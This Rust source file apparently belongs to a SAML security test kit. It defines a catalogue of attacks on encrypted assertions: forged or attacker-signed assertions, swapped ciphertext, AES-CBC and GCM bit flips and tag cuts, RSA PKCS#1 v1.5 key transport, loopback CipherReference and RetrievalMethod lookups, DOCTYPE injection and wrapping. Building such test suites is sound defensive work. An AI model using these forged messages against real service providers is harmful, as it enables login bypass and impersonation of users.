//! Attacks with ciphertext that was altered, that nothing authenticates, or that refers to another place.

use vouchsafe_crypto::{ContentCipher, KeyTransport, base64_decode, base64_encode};

use super::scene::{Made, Scene};
use super::surgery::{append, copy, fill, replace, text_of, without};
use super::wrapping::{Parts, wrap};
use super::{Attack, Base, Kind, Needs};
use crate::{Signed, TestkitError, keys};

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Made) -> Attack {
    Attack::new(name, Kind::Encryption, description, make)
        .from(Base::EncryptedAssertion)
        .needs(&[Needs::Certificate])
}

const CBC: &str = "Jager, Somorovsky: How to Break XML Encryption (2011)";
const ENCRYPTED: [&str; 2] = ["Response", "EncryptedAssertion"];
const DATA: [&str; 3] = ["Response", "EncryptedAssertion", "EncryptedData"];
const CONTENT: [&str; 5] = ["Response", "EncryptedAssertion", "EncryptedData", "CipherData", "CipherValue"];
const KEY: [&str; 5] = ["Response", "EncryptedAssertion", "EncryptedKey", "CipherData", "CipherValue"];

pub(super) const ATTACKS: &[Attack] = &[
    row("encryption/forged", "a forged Assertion, encrypted, nothing signed", |scene| {
        let response = scene.message_about(scene.victim()).sign(Signed::Neither).issue()?;
        Ok(vec![scene.hostile(response.xml())])
    }),
    row("encryption/forged-cbc", "a forged Assertion, encrypted with AES-CBC, nothing signed", |scene| {
        let response = cbc(scene, scene.victim())?.sign(Signed::Neither).issue()?;
        Ok(vec![scene.hostile(response.xml())])
    }),
    row(
        "encryption/attacker-signed",
        "a forged Assertion signed by the attacker's key, then encrypted",
        |scene| {
            let response = scene.message_about(scene.victim()).key(keys::attacker()).issue()?;
            Ok(vec![scene.hostile(response.xml())])
        },
    ),
    row(
        "encryption/attacker-signed-response",
        "a forged, encrypted Assertion in a Response signed by the attacker's key",
        |scene| {
            let response =
                scene.message_about(scene.victim()).key(keys::attacker()).sign(Signed::Response).issue()?;
            Ok(vec![scene.hostile(response.xml())])
        },
    ),
    row("encryption/resealed", "the ciphertext in a signed Response exchanged for a forged one", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let forged =
            scene.message_of(&scene.target().identity_provider, scene.victim()).sign(Signed::Neither);
        let forged = copy(forged.issue()?.xml(), &["Response", "Assertion"])?;
        Ok(vec![scene.hostile(replace(&issued, &ENCRYPTED, &scene.encrypted(&forged)?)?)])
    })
    .from(Base::Encrypted),
    row(
        "encryption/resealed-own",
        "the ciphertext in a signed Response exchanged for the attacker's own signed Assertion",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            let own = scene.message_of(&scene.target().identity_provider, scene.attacker()).issue()?;
            let own = copy(own.xml(), &["Response", "Assertion"])?;
            Ok(vec![scene.hostile(replace(&issued, &ENCRYPTED, &scene.encrypted(&own)?)?)])
        },
    )
    .from(Base::Encrypted),
    row("encryption/cbc-first", "AES-CBC, a bit of the first block flipped by way of the vector", |scene| {
        altered(scene, cbc(scene, scene.attacker())?.issue()?.xml(), &CONTENT, |bytes| flip(bytes, 3))
    })
    .known_as(CBC),
    row("encryption/cbc-middle", "AES-CBC, a bit flipped in the middle", |scene| {
        altered(scene, cbc(scene, scene.attacker())?.issue()?.xml(), &CONTENT, |bytes| {
            let middle = bytes.len() / 2;
            flip(bytes, middle);
        })
    })
    .known_as(CBC),
    row("encryption/cbc-padding", "AES-CBC, a bit of the padding flipped", |scene| {
        altered(scene, cbc(scene, scene.attacker())?.issue()?.xml(), &CONTENT, |bytes| {
            let last = bytes.len().saturating_sub(17);
            flip(bytes, last);
        })
    })
    .known_as(CBC),
    row("encryption/cbc-cut", "AES-CBC, the last block cut off", |scene| {
        altered(scene, cbc(scene, scene.attacker())?.issue()?.xml(), &CONTENT, |bytes| {
            bytes.truncate(bytes.len().saturating_sub(16));
        })
    }),
    row("encryption/gcm-flipped", "AES-GCM, a bit flipped in the middle", |scene| {
        altered(scene, scene.message().issue()?.xml(), &CONTENT, |bytes| {
            let middle = bytes.len() / 2;
            flip(bytes, middle);
        })
    }),
    row("encryption/gcm-tag", "AES-GCM, the tag cut to 12 bytes", |scene| {
        altered(scene, scene.message().issue()?.xml(), &CONTENT, |bytes| {
            bytes.truncate(bytes.len().saturating_sub(4));
        })
    }),
    row("encryption/gcm-no-tag", "AES-GCM, no tag", |scene| {
        altered(scene, scene.message().issue()?.xml(), &CONTENT, |bytes| {
            bytes.truncate(bytes.len().saturating_sub(16));
        })
    }),
    row("encryption/as-cbc", "AES-GCM ciphertext under the name of AES-CBC", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let renamed = issued.replace(ContentCipher::Aes256Gcm.uri(), ContentCipher::Aes256Cbc.uri());
        Ok(vec![scene.hostile(renamed)])
    }),
    row("encryption/key-flipped", "a bit of the EncryptedKey flipped", |scene| {
        altered(scene, scene.message().issue()?.xml(), &KEY, |bytes| flip(bytes, 100))
    }),
    row("encryption/rsa-1.5", "the key encrypted with RSA PKCS#1 v1.5", |scene| {
        let encryption =
            scene.encryption()?.cipher(ContentCipher::Aes256Gcm).key_transport(KeyTransport::Rsa15);
        Ok(vec![scene.hostile(scene.message().encrypt(encryption).issue()?.xml())])
    })
    .known_as("Bleichenbacher (1998)"),
    row("encryption/content", "the Type says that it is content, not an element", |scene| {
        let issued = scene.message().issue()?.into_xml();
        Ok(vec![scene.bent(issued.replace("xmlenc#Element\"", "xmlenc#Content\""))])
    }),
    row("encryption/cipher-reference", "the ciphertext is at a web address (loopback, port 9)", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let reference = "<xenc:CipherReference URI=\"http://127.0.0.1:9/\"></xenc:CipherReference>";
        let path = ["Response", "EncryptedAssertion", "EncryptedData", "CipherData"];
        Ok(vec![scene.hostile(fill(&issued, &path, reference)?)])
    }),
    row("encryption/key-elsewhere", "the key is at a web address (loopback, port 9)", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let method = "<ds:RetrievalMethod URI=\"http://127.0.0.1:9/\" \
                      Type=\"http://www.w3.org/2001/04/xmlenc#EncryptedKey\"></ds:RetrievalMethod>";
        let path = ["Response", "EncryptedAssertion", "EncryptedData", "KeyInfo"];
        let led = fill(&issued, &path, method)?;
        Ok(vec![scene.hostile(without(&led, &["Response", "EncryptedAssertion", "EncryptedKey"])?)])
    }),
    row("encryption/key-loop", "the key is encrypted with a key that it names itself", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let key = copy(&issued, &["Response", "EncryptedAssertion", "EncryptedKey"])?;
        let id = key.split(" Id=\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap_or_default();
        let method = format!("<ds:RetrievalMethod URI=\"#{id}\"></ds:RetrievalMethod>");
        let path = ["Response", "EncryptedAssertion", "EncryptedKey", "KeyInfo"];
        Ok(vec![scene.bent(append(&issued, &path, &method)?)])
    }),
    row("encryption/nested", "an EncryptedAssertion inside the ciphertext", |scene| {
        wrap_signed(scene, |original| scene.encrypted(original))
    }),
    row("encryption/doctype", "a DOCTYPE inside the ciphertext", |scene| {
        wrap_signed(scene, |original| Ok(["<!DOCTYPE Assertion [<!ENTITY a \"b\">]>", original].concat()))
    }),
    row("encryption/text-after", "text after the Assertion inside the ciphertext", |scene| {
        wrap_signed(scene, |original| Ok([original, "text"].concat()))
    }),
    row("encryption/two", "two EncryptedAssertions, one signed inside, one forged", |scene| {
        wrap(&scene.as_signed_assertion(), |parts| {
            Ok(parts.response(&[&scene.encrypted(&parts.evil)?, &scene.encrypted(&parts.original)?]))
        })
    }),
    row("encryption/two-data", "two EncryptedData in one EncryptedAssertion, the second forged", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let forged =
            scene.message_of(&scene.target().identity_provider, scene.victim()).sign(Signed::Neither);
        let sealed = scene.encrypted(&copy(forged.issue()?.xml(), &["Response", "Assertion"])?)?;
        let data = copy(&sealed, &["EncryptedAssertion", "EncryptedData"])?;
        Ok(vec![scene.bent(super::surgery::after(&issued, &DATA, &data)?)])
    }),
];

/// Returns a message whose Assertion is signed and encrypted with AES-CBC, which is not authenticated.
fn cbc(scene: &Scene<'_>, subject: &str) -> Result<crate::ResponseBuilder, TestkitError> {
    Ok(scene.message_about(subject).encrypt(scene.encryption()?))
}

fn altered(scene: &Scene<'_>, issued: &str, path: &[&str], alter: impl FnOnce(&mut Vec<u8>)) -> Made {
    let element = copy(issued, path)?;
    let mut bytes = base64_decode(text_of(&element))?;
    alter(&mut bytes);
    Ok(vec![scene.hostile(fill(issued, path, &base64_encode(&bytes))?)])
}

fn flip(bytes: &mut [u8], at: usize) {
    if let Some(byte) = bytes.get_mut(at) {
        *byte ^= 1;
    }
}

/// Returns the attacker's own signed Assertion, changed and then encrypted by the attacker.
fn wrap_signed(scene: &Scene<'_>, inside: impl FnOnce(&str) -> Result<String, TestkitError>) -> Made {
    let parts = Parts::of(&scene.as_signed_assertion())?;
    let sealed = scene.encrypted(&inside(&parts.original)?)?;
    Ok(vec![scene.bent(parts.response(&[&sealed]))])
}
